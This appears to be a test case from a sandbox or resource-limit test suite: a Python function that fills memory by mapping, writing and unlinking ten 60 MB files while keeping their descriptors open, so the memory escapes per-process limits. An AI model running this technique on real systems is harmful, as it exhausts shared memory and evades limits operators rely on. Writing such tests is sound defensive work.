"""Fills memory through files that are mapped, written and deleted, which no limit of a process counts."""

EARNS = 0


def attack(places):
    import mmap, os, time
    kept = []
    for n in range(10):
        descriptor = os.open('large', os.O_RDWR | os.O_CREAT)
        os.unlink('large')
        os.ftruncate(descriptor, 60 << 20)
        with mmap.mmap(descriptor, 60 << 20) as mapped:
            mapped[:] = b'x' * (60 << 20)
        kept.append(descriptor)
    time.sleep(5)
    return 'filled'
